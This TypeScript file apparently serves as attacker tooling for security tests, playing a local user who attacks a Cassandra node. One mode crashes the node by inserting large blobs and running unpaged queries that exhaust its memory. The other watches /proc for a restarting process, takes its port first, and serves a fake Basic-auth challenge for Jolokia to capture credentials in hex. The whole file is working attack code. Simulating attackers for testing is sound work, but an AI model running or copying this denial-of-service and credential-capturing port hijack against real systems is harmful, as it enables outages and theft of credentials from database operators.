/**
 * Another user of the machine, who attacks a database node. `crash HOST PORT` makes the node's process run out of memory, over the port
 * for clients. `listen HOST PORT MARK` waits until a new process whose command line contains MARK has started, takes the port before that
 * process does, and prints in hexadecimal what it hears. With a key and a certificate in the environment, it speaks TLS.
 */
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:net";
import { createServer as createTlsServer } from "node:tls";
import { Client } from "cassandra-driver";

const [what, host = "", port = "", mark = ""] = process.argv.slice(2);
if (what === "crash") await crash();
else listen();

async function crash(): Promise<void> {
  const client = new Client({
    contactPoints: [`${host}:${port}`],
    localDataCenter: "datacenter1",
    socketOptions: { readTimeout: 120_000 },
  });
  await client.connect();
  await client.execute("CREATE KEYSPACE IF NOT EXISTS x WITH replication = {'class': 'SimpleStrategy', 'replication_factor': 1}");
  await client.execute("CREATE TABLE IF NOT EXISTS x.y (id int PRIMARY KEY, value blob)");
  const { rows } = await client.execute("SELECT id FROM x.y WHERE id = 399");
  const value = Buffer.alloc(2 ** 20);
  for (let id = 0; rows.length === 0 && id < 400; id++) {
    await client.execute("INSERT INTO x.y (id, value) VALUES (?, ?)", [id, value], { prepare: true });
  }
  // Without pages, the node collects the whole answer in its memory.
  await Promise.allSettled([1, 2, 3].map(() => client.execute("SELECT * FROM x.y", [], { fetchSize: 0 })));
  process.exit();
}

function listen(): void {
  const before = new Set(processes());
  const { KEY: key, CERTIFICATE: cert } = process.env;
  const hear = (bytes: Buffer) => console.log(bytes.toString("hex"));
  const answer = "HTTP/1.1 401 Unauthorized\r\nwww-authenticate: Basic realm=jolokia\r\ncontent-length: 0\r\n\r\n";
  const server = key && cert ? createTlsServer({ key, cert }) : createServer();
  server.on(key ? "secureConnection" : "connection", (socket) => {
    socket
      .on("error", () => undefined)
      .on("data", (bytes: Buffer) => {
        hear(bytes);
        socket.end(answer);
      });
  });
  const take = () => {
    if (processes().some((pid) => !before.has(pid))) server.listen(Number(port), host);
    else setTimeout(take, 2);
  };
  server.on("listening", () => console.log("listening"));
  server.on("error", () => setTimeout(take, 2));
  take();
}

function processes(): readonly string[] {
  return readdirSync("/proc").filter((pid) => /^\d+$/.test(pid) && commandOf(pid).includes(mark));
}

function commandOf(pid: string): string {
  try {
    const command = readFileSync(`/proc/${pid}/cmdline`, "utf8");
    return command.startsWith("/bin/sh") ? "" : command;
  } catch {
    return "";
  }
}
